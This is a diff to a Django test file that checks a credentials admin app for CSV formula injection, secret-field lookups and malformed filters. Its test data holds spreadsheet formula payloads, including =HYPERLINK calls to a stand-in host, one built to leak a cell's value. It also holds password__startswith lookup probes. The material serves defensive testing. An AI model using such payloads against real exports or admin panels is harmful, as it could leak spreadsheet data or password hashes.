@@ -7,6 +7,7 @@ import csv
 import io
 
 import pytest
+from django.contrib.auth.models import Group
 from django.test import Client
 from django.urls import reverse
 
@@ -19,7 +20,8 @@ from credentials.models import (
     Registry,
     User,
 )
-from tests.helpers import client_for
+from credentials.rules import EDIT, READ
+from tests.helpers import client_for, permit
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -66,6 +68,19 @@ def test_the_credential_export_neutralises_formulas_too(
     assert rows[1][1] == "'=1+1"
 
 
+def test_the_permission_export_neutralises_formulas_in_user_and_group_names(
+    staff_user: User, registry: Registry
+) -> None:
+    # Django's usernames may begin with @, + or -; a group's name may be anything.
+    evil_user = User.objects.create_user(username="@SUM(1+1)", password="x" * 20)
+    evil_group = Group.objects.create(name='=HYPERLINK("http://evil.example/","x")')
+    permit(registry, "team-a", EDIT, user=evil_user)
+    permit(registry, "team-a/app", READ, group=evil_group)
+    rows = read_export(client_for(staff_user).get(reverse("admin:credentials_permission_export")))
+    grantees = sorted(row[4] for row in rows[1:])
+    assert grantees == ['\'=HYPERLINK("http://evil.example/","x")', "'@SUM(1+1)"]
+
+
 @pytest.mark.parametrize(
     ("url_name", "lookup"),
     [
@@ -85,6 +100,10 @@ def test_the_credential_export_neutralises_formulas_too(
         ("admin:credentials_refreshtoken_changelist", "digest__startswith"),
         ("admin:credentials_refreshtoken_changelist", "long_term__password_digest__startswith"),
         ("admin:credentials_accesskey_changelist", "secret_ciphertext__startswith"),
+        # Who granted a permission, to whom; who created an organization (issue 24).
+        ("admin:credentials_permission_changelist", "user__password__startswith"),
+        ("admin:credentials_permission_export", "granted_by__password__startswith"),
+        ("admin:credentials_organization_changelist", "created_by__password__startswith"),
     ],
 )
 def test_lookups_on_secret_fields_are_refused(
@@ -95,6 +114,20 @@ def test_lookups_on_secret_fields_are_refused(
     )
     response = client_for(staff_user).get(reverse(url_name), {lookup: "a"})
     assert response.status_code == 400
+
+
+@pytest.mark.parametrize(
+    "url_name",
+    ["admin:credentials_auditevent_changelist", "admin:credentials_permission_changelist"],
+)
+def test_a_registry_filter_that_is_not_a_registry_is_djangos_bad_filter_page_not_a_500(
+    staff_user: User, registry: Registry, url_name: str
+) -> None:
+    client = client_for(staff_user)
+    for value in ("x", "1.5", "²"):
+        response = client.get(reverse(url_name), {"registry": value})
+        assert response.status_code == 302, value
+        assert response["Location"].endswith("?e=1")
 
 
 def test_ordinary_filters_still_work(staff_user: User, registry: Registry) -> None:
